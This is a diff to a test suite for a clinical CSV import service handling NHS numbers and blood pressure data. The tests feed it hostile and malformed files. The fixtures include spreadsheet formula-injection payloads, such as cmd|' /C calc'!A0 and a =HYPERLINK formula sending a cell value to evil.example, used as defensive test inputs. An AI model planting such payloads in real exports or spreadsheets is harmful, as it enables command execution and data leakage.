@@ -7,6 +7,7 @@ import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import Papa from 'papaparse'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import { listBackups } from '../../src/main/import/database-backup'
 import { importFiles, listImports, previewImport, rejectsCsvOf } from '../../src/main/import/import-service'
 import { bloodPressureProblem } from '../../src/shared/domain/bp-plausibility'
 import { isValidNhsNumber } from '../../src/shared/domain/nhs-number'
@@ -56,19 +57,15 @@ const cases: HostileCase[] = [
   { name: 'JSON instead of CSV', expect: 'error', file: () => fileOf('data.csv', JSON.stringify([{ nhs: validNhsNumber(1) }])) },
   { name: 'no NHS number column', expect: 'error', file: () => fileOf('no-nhs.csv', csvLines([['Name', 'DOB'], ['SMITH', '01/01/1950']])) },
   { name: 'only a report header block, no column row', expect: 'error', file: () => fileOf('header-only.csv', csvLines([['Report Name:', 'BP list'], ['Run Date:', '01-Nov-2026'], ['Population Count:', '0']])) },
+  // A column row with no patient rows under it is refused (not "an import of 0 patients").
+  { name: 'only the column row, no data', expect: 'error', file: () => fileOf('columns-only.csv', csvLines([header])) },
   {
-    name: 'only the column row, no data',
-    expect: 'either',
-    file: () => fileOf('columns-only.csv', csvLines([header])),
-    after: (_ctx, result) => expect(result.patientsAdded).toBe(0)
+    name: 'a report header block and a column row, no data',
+    expect: 'error',
+    file: () => fileOf('report-columns-only.csv', csvLines([['Report Name:', 'BP list'], ['Population Count:', '0'], [], header]))
   },
-  {
-    name: 'a 50 MB single line with no newline',
-    expect: 'either',
-    file: () => fileOf('one-line.csv', `NHS Number,${'A'.repeat(50 * 1024 * 1024)}`),
-    // The line is a column row with nothing under it: nothing to import, nothing stored.
-    after: (_ctx, result) => expect(result.patientsAdded + result.readingsAdded).toBe(0)
-  },
+  { name: 'a column row followed only by empty rows', expect: 'error', file: () => fileOf('columns-then-blank.csv', csvLines([header, [], [], [',,,']])) },
+  { name: 'a 50 MB single line with no newline', expect: 'error', file: () => fileOf('one-line.csv', `NHS Number,${'A'.repeat(50 * 1024 * 1024)}`) },
   {
     name: 'truncated in the middle of a quoted field',
     expect: 'error',
@@ -128,13 +125,15 @@ const cases: HostileCase[] = [
           good(2, '+cmd|\' /C calc\'!A0'),
           good(3, '-2+3'),
           good(4, '@SUM(1+1)*cmd|\' /C calc\'!A0'),
-          ['1234567890', '=1+1', 'X', '01/01/1950', 'F', '', '', '']
+          ['1234567890', '=1+1', 'X', '01/01/1950', 'F', '', '', ''],
+          // Indented formulas: spreadsheets skip the spaces and still run them.
+          ['" 	=HYPERLINK(""http://evil.example"")"', 'X', 'Y', '01/01/1950', 'F', '', '', '']
         ])
       ),
     after: (ctx, result) => {
       expect(storedName(ctx, validNhsNumber(1))).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click")')
       expect(storedName(ctx, validNhsNumber(2))).toBe("+cmd|' /C calc'!A0")
-      expect(result.rejected).toHaveLength(1)
+      expect(result.rejected).toHaveLength(2)
     }
   },
   {
@@ -278,6 +277,7 @@ describe('hostile and malformed import files', () => {
     const input = file()
     const before = databaseFileHash()
     const importsBefore = listImports(ctx).length
+    const backupsBefore = listBackups(ctx.databasePath).map((b) => b.name)
     let outcome: { ok: true; result: ReturnType<typeof importFiles> } | { ok: false; error: unknown }
     try {
       // The preview alone must not write anything, whatever the file.
@@ -297,6 +297,7 @@ describe('hostile and malformed import files', () => {
       expect(error.message.length).toBeLessThan(2_000)
       expect(databaseFileHash()).toBe(before)
       expect(listImports(ctx)).toHaveLength(importsBefore)
+      expect(listBackups(ctx.databasePath).map((b) => b.name)).toEqual(backupsBefore)
       return
     }
     expect(expected, 'should have been refused').not.toBe('error')
@@ -307,8 +308,34 @@ describe('hostile and malformed import files', () => {
       const csv = Buffer.from(rejectsCsvOf(ctx, { importId: result.importId }).contentBase64, 'base64').toString('utf8').replace(/^\uFEFF/, '')
       const rows = Papa.parse<string[]>(csv.trim(), { header: false }).data
       expect(rows).toHaveLength(1 + result.rejected.length + result.conflicts.length)
-      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]|^[\t\r]/u)
     }
     after?.(ctx, result)
+  })
+})
+
+describe('a file with column headings but no patient rows', () => {
+  test.each([
+    ['columns-only.csv', csvLines([header])],
+    ['report-columns-only.csv', csvLines([['Report Name:', 'BP list'], ['Population Count:', '0'], [], header])],
+    ['one-line.csv', `NHS Number,${'A'.repeat(1000)}`]
+  ])('%s is refused by name, with how to fix it, and nothing is stored or backed up', (name, text) => {
+    const before = databaseFileHash()
+    const backupsBefore = listBackups(ctx.databasePath).length
+    const importsBefore = listImports(ctx).length
+    expect(() => importFiles(ctx, [fileOf(name, text)], 'auto')).toThrow(
+      `"${name}" has column headings but no patient rows: check the search returned patients and export again`
+    )
+    expect(databaseFileHash()).toBe(before)
+    expect(listBackups(ctx.databasePath)).toHaveLength(backupsBefore)
+    expect(listImports(ctx)).toHaveLength(importsBefore)
+  })
+
+  test('refused even when imported together with a good file, naming the empty one', () => {
+    const before = databaseFileHash()
+    expect(() => importFiles(ctx, [fileOf('good.csv', validCsv(3)), fileOf('empty-search.csv', csvLines([header]))], 'auto')).toThrow(
+      '"empty-search.csv" has column headings but no patient rows'
+    )
+    expect(databaseFileHash()).toBe(before)
   })
 })
